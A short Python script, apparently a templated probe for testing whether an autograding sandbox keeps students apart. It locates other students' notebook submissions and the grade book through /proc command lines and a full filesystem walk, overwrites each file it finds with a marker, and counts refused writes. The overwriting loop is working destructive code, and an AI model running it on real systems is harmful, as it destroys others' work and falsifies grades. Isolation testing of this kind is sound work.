# Attack: find the class folder (command lines of parent processes, a walk of the file system) and
# rewrite the other students' submissions and the grade book before they are graded.
import glob, os
found = set(glob.glob("@CLASS@/*.ipynb")) | {"@GRADEBOOK@"}
for pid in os.listdir("/proc"):
    if pid.isdigit():
        try:
            found |= {a for a in open(f"/proc/{pid}/cmdline", "rb").read().decode().split("\0") if a.endswith(".ipynb")}
        except OSError:
            pass
for root, dirs, files in os.walk("/"):
    dirs[:] = [d for d in dirs if os.path.join(root, d) not in ("/proc", "/sys", "/usr")]
    found |= {os.path.join(root, f) for f in files if f.endswith((".ipynb", ".csv"))}
refused = 0
for path in sorted(found):
    try:
        with open(path, "w") as f:
            f.write('{"tampered": "@MARKER@"}')
        print("TAMPERED", path)
    except OSError:
        refused += 1
print("refused", refused, "of", len(found))
